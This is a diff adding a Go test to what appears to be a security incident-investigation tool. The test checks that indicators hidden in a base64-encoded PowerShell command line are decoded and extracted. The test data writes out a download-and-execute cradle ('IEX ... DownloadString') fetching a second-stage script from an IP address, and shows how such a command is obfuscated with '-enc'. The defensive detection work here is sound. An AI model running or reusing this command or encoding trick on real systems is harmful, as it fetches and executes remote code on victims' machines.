@@ -2,6 +2,7 @@ package investigate
 
 import (
 	"context"
+	"encoding/base64"
 	"errors"
 	"os"
 	"path/filepath"
@@ -186,5 +187,30 @@ func TestSourcesRunInParallel(t *testing.T) {
 	r := iv.Run(context.Background(), load(t, "impossible-travel.json"))
 	if r.Stats.Errors != 0 {
 		t.Errorf("coverage: %+v", r.Coverage)
+	}
+}
+
+// Indicators hidden in an encoded command line are extracted and enriched
+// like any other.
+func TestDecodedCommandLineIndicators(t *testing.T) {
+	payload := "IEX (New-Object Net.WebClient).DownloadString('http://45.9.20.1/stage2.ps1')"
+	u16 := make([]byte, 0, 2*len(payload))
+	for _, c := range []byte(payload) {
+		u16 = append(u16, c, 0)
+	}
+	enc := base64.StdEncoding.EncodeToString(u16)
+	inc, err := incident.Parse([]byte(`{"incident":{"properties":{"title":"t"}},"entities":[{"kind":"Process","properties":{"commandLine":"powershell.exe -nop -enc ` + enc + `"}}]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := newTest().Run(context.Background(), inc)
+	found := false
+	for _, u := range r.Entities.URLs {
+		if u.Value == "http://45.9.20.1/stage2.ps1" && strings.Contains(strings.Join(u.Sources, ","), "decoded command line") {
+			found = true
+		}
+	}
+	if !found || len(r.Entities.IPsPublic) != 1 || r.Entities.IPsPublic[0].Value != "45.9.20.1" {
+		t.Errorf("decoded indicators not extracted: urls %+v ips %+v", r.Entities.URLs, r.Entities.IPsPublic)
 	}
 }
